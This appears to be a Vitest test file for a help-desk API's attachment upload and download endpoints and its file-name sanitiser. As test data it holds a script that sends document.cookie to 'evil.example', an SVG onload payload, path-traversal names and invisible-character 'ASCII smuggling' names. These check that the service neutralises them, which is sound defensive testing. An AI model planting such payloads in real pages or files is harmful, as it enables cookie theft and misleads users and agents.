import { env } from 'cloudflare:test'
import { eq } from 'drizzle-orm'
import { describe, expect, inject, it } from 'vitest'
import { messageAttachments } from '../../src/db/schema'
import { sanitizeFileName } from '../../src/resources/messages/attachments'
import { api, checkedFetch, json } from '../support/api'
import { neonLocalStats, ownerDb, ownerSql, untilRowLocked } from '../support/db'
import { createTenant, type TestTenant } from '../support/tenants'
import { type MessageBody, openTicket, post } from './support'

const bucket = () => env.ATTACHMENTS as R2Bucket

/** A small valid PNG header followed by bytes, `size` bytes in all. */
function png(size = 64): Uint8Array {
  const bytes = new Uint8Array(size)
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  for (let i = 8; i < size; i++) bytes[i] = (i * 7) % 256
  return bytes
}

interface Attachment {
  id: string
  fileName: string
  contentType: string
  sizeBytes: number
  sha256: string
  createdAt: string
}

function upload(
  token: string,
  path: string,
  bytes: Uint8Array,
  options: { contentType?: string; fileName?: string; headers?: Record<string, string> } = {},
): Promise<Response> {
  const query = `?fileName=${encodeURIComponent(options.fileName ?? 'screenshot.png')}`
  return checkedFetch(`http://api.test${path}/attachments${query}`, {
    method: 'POST',
    headers: {
      Authorization: `Bearer ${token}`,
      'Content-Type': options.contentType ?? 'image/png',
      ...options.headers,
    },
    body: bytes,
  })
}

async function conversation(t: TestTenant) {
  const ticket = await openTicket(t)
  const reply = await post(t.tokens.CUSTOMER, ticket.id, { body: 'See the screenshot' })
  const note = await post(t.tokens.REPRESENTATIVE, ticket.id, {
    body: 'Internal log',
    visibility: 'INTERNAL',
  })
  const path = (message: MessageBody) => `/v1/tickets/${ticket.id}/messages/${message.id}`
  return { ticket, reply, note, replyPath: path(reply), notePath: path(note) }
}

const attachmentRows = (messageId: string) =>
  ownerDb.select().from(messageAttachments).where(eq(messageAttachments.messageId, messageId))

describe(`attachments (${inject('databaseBackend')})`, () => {
  it('the author uploads a file: stored in R2 under a tenant key, listed on the message, downloaded by readers', async () => {
    const t = await createTenant()
    const c = await conversation(t)
    const bytes = png(2048)
    const requestId = `upload-${crypto.randomUUID()}`
    const response = await upload(t.tokens.CUSTOMER, c.replyPath, bytes, {
      fileName: '../../etc/\u202eevil\u0007 name.png',
      headers: { 'X-Request-Id': requestId },
    })
    expect(response.status, await response.clone().text()).toBe(201)
    // The check before storing, then the write: two round trips.
    expect(await neonLocalStats(requestId)).toBe(2)
    const attachment = await json<Attachment>(response)
    expect(attachment).toMatchObject({ fileName: 'evil name.png', contentType: 'image/png', sizeBytes: 2048 })
    expect(response.headers.get('Location')).toBe(`${c.replyPath}/attachments/${attachment.id}`)
    const [row] = await attachmentRows(c.reply.id)
    expect(row?.storageKey).toBe(
      `${t.organizationId}/tickets/${c.ticket.id}/messages/${c.reply.id}/${attachment.id}`,
    )
    const object = await bucket().get(row?.storageKey as string)
    expect(new Uint8Array(await (object as R2ObjectBody).arrayBuffer())).toEqual(bytes)

    // On the message, whose version rose.
    const message = await json<MessageBody>(await api(c.replyPath, { token: t.tokens.AGENT }))
    expect(message.attachments).toEqual([attachment])
    expect(message.version).toBe(2)

    for (const token of [t.tokens.CUSTOMER, t.tokens.ADMIN, t.tokens.AGENT]) {
      const requestId = `download-${crypto.randomUUID()}`
      const download = await checkedFetch(
        `http://api.test${c.replyPath}/attachments/${attachment.id}/content`,
        {
          headers: { Authorization: `Bearer ${token}`, 'X-Request-Id': requestId },
        },
      )
      expect(download.status).toBe(200)
      expect(download.headers.get('Content-Type')).toBe('image/png')
      expect(download.headers.get('Content-Disposition')).toBe(
        `attachment; filename="evil name.png"; filename*=UTF-8''evil%20name.png`,
      )
      expect(download.headers.get('X-Content-Type-Options')).toBe('nosniff')
      expect(download.headers.get('Cache-Control')).toBe('no-store')
      expect(new Uint8Array(await download.arrayBuffer())).toEqual(bytes)
      expect(await neonLocalStats(requestId)).toBe(1)
    }
    const metadata = await api(`${c.replyPath}/attachments/${attachment.id}`, { token: t.tokens.CUSTOMER })
    expect(await json(metadata)).toEqual(attachment)
  })

  it('ids spelled in upper case in the URL: one spelling of ticketId everywhere, a lower-case storage key', async () => {
    const t = await createTenant()
    const c = await conversation(t)
    const shouted = `/v1/tickets/${c.ticket.id.toUpperCase()}/messages/${c.reply.id.toUpperCase()}`
    const response = await upload(t.tokens.CUSTOMER, shouted, png())
    expect(response.status, await response.clone().text()).toBe(201)
    const attachment = await json<Attachment & { ticketId: string; messageId: string }>(response)
    expect(attachment).toMatchObject({ ticketId: c.ticket.id, messageId: c.reply.id })
    const [row] = await attachmentRows(c.reply.id)
    expect(row?.storageKey).toBe(
      `${t.organizationId}/tickets/${c.ticket.id}/messages/${c.reply.id}/${attachment.id}`,
    )
    const message = await json<MessageBody>(await api(c.replyPath, { token: t.tokens.CUSTOMER }))
    expect(message.attachments).toEqual([attachment])
    expect(
      await json(await api(`${c.replyPath}/attachments/${attachment.id}`, { token: t.tokens.CUSTOMER })),
    ).toEqual(attachment)
  })

  it('a text file named as a page downloads under a text name (Content-Disposition), never as .html', async () => {
    const t = await createTenant()
    const c = await conversation(t)
    const page = new TextEncoder().encode(
      '<script>fetch("https://evil.example/?" + document.cookie)</script>',
    )
    const response = await upload(t.tokens.CUSTOMER, c.replyPath, page, {
      contentType: 'text/plain',
      fileName: 'invoice.html',
    })
    expect(response.status, await response.clone().text()).toBe(201)
    const attachment = await json<Attachment>(response)
    expect(attachment).toMatchObject({ fileName: 'invoice.html.txt', contentType: 'text/plain' })
    const [row] = await attachmentRows(c.reply.id)
    expect(row?.fileName).toBe('invoice.html.txt')
    const download = await api(`${c.replyPath}/attachments/${attachment.id}/content`, {
      token: t.tokens.ADMIN,
    })
    expect(download.headers.get('Content-Disposition')).toBe(
      `attachment; filename="invoice.html.txt"; filename*=UTF-8''invoice.html.txt`,
    )
  })

  it('downloads only for those who may read the message: a note’s file is 404 to the customer, any file to others', async () => {
    const [t, other] = [await createTenant(), await createTenant()]
    const c = await conversation(t)
    const staffFile = await json<Attachment>(await upload(t.tokens.REPRESENTATIVE, c.notePath, png()))
    const customerFile = await json<Attachment>(await upload(t.tokens.CUSTOMER, c.replyPath, png()))
    const denied: Array<[string, string]> = [
      [t.tokens.CUSTOMER, `${c.notePath}/attachments/${staffFile.id}`],
      [t.tokens.OTHER_CUSTOMER, `${c.replyPath}/attachments/${customerFile.id}`],
      [other.tokens.ADMIN, `${c.replyPath}/attachments/${customerFile.id}`],
      // The right attachment under the wrong message.
      [t.tokens.ADMIN, `${c.notePath}/attachments/${customerFile.id}`],
    ]
    for (const [token, path] of denied) {
      for (const suffix of ['', '/content']) {
        const response = await api(`${path}${suffix}`, { token })
        expect(response.status, `${path}${suffix}`).toBe(404)
      }
    }
    expect(
      (await api(`${c.notePath}/attachments/${staffFile.id}/content`, { token: t.tokens.AGENT })).status,
    ).toBe(200)
  })

  it('refuses what the limits forbid: type (415), size (413), content (422), count (409), nothing stored', async () => {
    const t = await createTenant()
    const c = await conversation(t)
    const refused: Array<[Uint8Array, { contentType?: string }, number, string]> = [
      [
        new TextEncoder().encode('<svg onload=alert(1)>'),
        { contentType: 'image/svg+xml' },
        415,
        'UNSUPPORTED_MEDIA_TYPE',
      ],
      [new TextEncoder().encode('<html>'), { contentType: 'text/html' }, 415, 'UNSUPPORTED_MEDIA_TYPE'],
      [png(10 * 1024 * 1024 + 1), {}, 413, 'PAYLOAD_TOO_LARGE'],
      [new TextEncoder().encode('not a png'), {}, 422, 'CONTENT_TYPE_MISMATCH'],
      [new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d]), { contentType: 'text/plain' }, 200, ''],
      [new Uint8Array([0xff, 0xfe, 0x00]), { contentType: 'text/plain' }, 422, 'CONTENT_TYPE_MISMATCH'],
    ]
    for (const [bytes, options, status, code] of refused) {
      if (status === 200) continue
      const response = await upload(t.tokens.CUSTOMER, c.replyPath, bytes, options)
      expect(response.status, code).toBe(status)
      expect(await json(response)).toMatchObject({ code })
    }
    expect(await attachmentRows(c.reply.id)).toEqual([])
    // Exactly 10 MiB is accepted; then up to ten in all.
    expect((await upload(t.tokens.CUSTOMER, c.replyPath, png(10 * 1024 * 1024))).status).toBe(201)
    for (let i = 1; i < 10; i++)
      expect((await upload(t.tokens.CUSTOMER, c.replyPath, png())).status).toBe(201)
    const eleventh = await upload(t.tokens.CUSTOMER, c.replyPath, png())
    expect(eleventh.status).toBe(409)
    expect(await json(eleventh)).toMatchObject({ code: 'ATTACHMENT_LIMIT_REACHED' })
    const rows = await attachmentRows(c.reply.id)
    expect(rows).toHaveLength(10)
    const listed = await bucket().list({ prefix: `${t.organizationId}/` })
    expect(listed.objects.map((object) => object.key).sort()).toEqual(
      rows.map((row) => row.storageKey).sort(),
    )
  })

  it('only the author attaches, never to a redacted message or on a CLOSED ticket; redaction deletes the files', async () => {
    const t = await createTenant()
    const c = await conversation(t)
    for (const token of [t.tokens.ADMIN, t.tokens.AGENT, t.tokens.REPRESENTATIVE]) {
      const response = await upload(token, c.replyPath, png())
      expect(response.status).toBe(403)
    }
    expect((await upload(t.tokens.CUSTOMER, c.notePath, png())).status).toBe(404)
    const file = await json<Attachment>(await upload(t.tokens.REPRESENTATIVE, c.notePath, png()))
    const [row] = await attachmentRows(c.note.id)
    const redacted = await api(`${c.notePath}/redact`, { method: 'POST', token: t.tokens.REPRESENTATIVE })
    expect(redacted.status).toBe(200)
    expect((await json<MessageBody>(redacted)).attachments).toEqual([])
    expect(await attachmentRows(c.note.id)).toEqual([])
    await expect.poll(async () => bucket().head(row?.storageKey as string)).toBeNull()
    expect(
      (await api(`${c.notePath}/attachments/${file.id}/content`, { token: t.tokens.ADMIN })).status,
    ).toBe(404)
    const toRedacted = await upload(t.tokens.REPRESENTATIVE, c.notePath, png())
    expect(toRedacted.status).toBe(409)
    expect(await json(toRedacted)).toMatchObject({ code: 'MESSAGE_REDACTED' })
    await api(`/v1/tickets/${c.ticket.id}`, {
      method: 'PATCH',
      token: t.tokens.ADMIN,
      body: { status: 'IN_PROGRESS' },
    })
    for (const status of ['RESOLVED', 'CLOSED']) {
      await api(`/v1/tickets/${c.ticket.id}`, { method: 'PATCH', token: t.tokens.ADMIN, body: { status } })
    }
    const closed = await upload(t.tokens.CUSTOMER, c.replyPath, png())
    expect(closed.status).toBe(409)
    expect(await json(closed)).toMatchObject({ code: 'TICKET_CLOSED' })
  })

  it('honours Idempotency-Key: a retried upload answers the first attachment, stored once', async () => {
    const t = await createTenant()
    const c = await conversation(t)
    const key = { 'Idempotency-Key': `upload-${crypto.randomUUID()}` }
    const first = await upload(t.tokens.CUSTOMER, c.replyPath, png(), { headers: key })
    expect(first.status).toBe(201)
    const again = await upload(t.tokens.CUSTOMER, c.replyPath, png(), { headers: key })
    expect(again.status).toBe(201)
    expect(again.headers.get('Idempotent-Replayed')).toBe('true')
    expect(await json(again)).toEqual(await json(first))
    expect(await attachmentRows(c.reply.id)).toHaveLength(1)
    // Other bytes under the same key: another request.
    const otherBytes = png(65)
    const reused = await upload(t.tokens.CUSTOMER, c.replyPath, otherBytes, { headers: key })
    expect(reused.status).toBe(422)
    expect((await bucket().list({ prefix: `${t.organizationId}/` })).objects).toHaveLength(1)
  })

  it('15 simultaneous uploads to one message: exactly 10 are accepted, the others 409 and their objects removed', async () => {
    const t = await createTenant()
    const c = await conversation(t)
    const responses = await Promise.all(
      Array.from({ length: 15 }, () => upload(t.tokens.CUSTOMER, c.replyPath, png())),
    )
    const statuses = responses.map((response) => response.status).sort()
    expect(statuses).toEqual([...Array(10).fill(201), ...Array(5).fill(409)])
    expect(await attachmentRows(c.reply.id)).toHaveLength(10)
    await expect
      .poll(async () => (await bucket().list({ prefix: `${t.organizationId}/` })).objects.length)
      .toBe(10)
  })

  it.skipIf(inject('databaseBackend') !== 'postgres')(
    'an upload racing the ticket’s closing: refused once the close commits (409 TICKET_CLOSED), nothing stored',
    async () => {
      const t = await createTenant()
      const c = await conversation(t)
      // The ticket is closed in a transaction that keeps its row locked for 2 s before committing.
      const closing = ownerSql.transaction([
        ownerSql`update tickets set status = 'CLOSED', closed_at = now() where id = ${c.ticket.id}`,
        ownerSql`select pg_sleep(2)`,
      ])
      await untilRowLocked(
        () => ownerSql`select 1 from tickets where id = ${c.ticket.id} for update nowait`,
        'the closing',
      )
      const uploading = upload(t.tokens.CUSTOMER, c.replyPath, png())
      await closing
      const response = await uploading
      expect(response.status, await response.clone().text()).toBe(409)
      expect(await json(response)).toMatchObject({ code: 'TICKET_CLOSED' })
      expect(await attachmentRows(c.reply.id)).toEqual([])
      await expect
        .poll(async () => (await bucket().list({ prefix: `${t.organizationId}/` })).objects.length)
        .toBe(0)
    },
  )
})

describe('attachment file names', () => {
  it('keeps the last path segment without controls, invisible characters, reserved characters or leading dots', () => {
    expect(sanitizeFileName('C:\\Users\\me\\report.pdf')).toBe('report.pdf')
    expect(sanitizeFileName('../../.env')).toBe('env')
    expect(sanitizeFileName('in\u202evoice\u200b.pdf')).toBe('invoice.pdf')
    expect(sanitizeFileName('a:b*c?.txt')).toBe('a_b_c_.txt')
    expect(sanitizeFileName('   \u0000 ')).toBe('attachment')
    const long = `${'x'.repeat(300)}.png`
    expect(sanitizeFileName(long)).toHaveLength(255)
    expect(sanitizeFileName(long).endsWith('.png')).toBe(true)
  })

  it('gives a name the extension of its content type, so a text file saved from a download is never a page or script', () => {
    expect(sanitizeFileName('invoice.html', 'text/plain')).toBe('invoice.html.txt')
    expect(sanitizeFileName('update.bat', 'text/plain')).toBe('update.bat.txt')
    expect(sanitizeFileName('list.csv.js', 'text/csv')).toBe('list.csv.js.csv')
    expect(sanitizeFileName('report', 'application/pdf')).toBe('report.pdf')
    expect(sanitizeFileName('', 'image/png')).toBe('attachment.png')
    // A name already of its type keeps its spelling.
    expect(sanitizeFileName('Photo.JPG', 'image/jpeg')).toBe('Photo.JPG')
    expect(sanitizeFileName('photo.jpeg', 'image/jpeg')).toBe('photo.jpeg')
    expect(sanitizeFileName('notes.txt', 'text/plain')).toBe('notes.txt')
    expect(sanitizeFileName('data.csv', 'text/csv')).toBe('data.csv')
    // Still at most 255 characters, the extension kept.
    const long = sanitizeFileName(`${'x'.repeat(300)}.html`, 'text/plain')
    expect(Array.from(long)).toHaveLength(255)
    expect(long.endsWith('.txt')).toBe(true)
  })

  it('drops every invisible character, not only the common ones: tags, the Arabic letter mark, fillers, annotations', () => {
    // Tag characters spell hidden ASCII ("ASCII smuggling"): the name a person sees is not the name an AI agent reads.
    expect(sanitizeFileName('invoice\u{E0001}\u{E0049}\u{E0047}\u{E004E}\u{E007F}.pdf')).toBe('invoice.pdf')
    // U+061C ARABIC LETTER MARK is a bidirectional control like U+200F.
    expect(sanitizeFileName('in\u061cvoice.pdf')).toBe('invoice.pdf')
    // Other default-ignorable or format characters that render as nothing.
    expect(sanitizeFileName('a\u034fb\u180ec\u3164d\uffa0e\ufff9f\ufffbg.pdf')).toBe('abcdefg.pdf')
    // A name of nothing but such characters is no name.
    expect(sanitizeFileName('\u{E0041}\u{E0042}')).toBe('attachment')
    // Visible text of every script is kept.
    expect(sanitizeFileName('r\u00e9sum\u00e9 \u65e5\u672c \u0645\u0644\u0641.pdf')).toBe(
      'r\u00e9sum\u00e9 \u65e5\u672c \u0645\u0644\u0641.pdf',
    )
  })
})
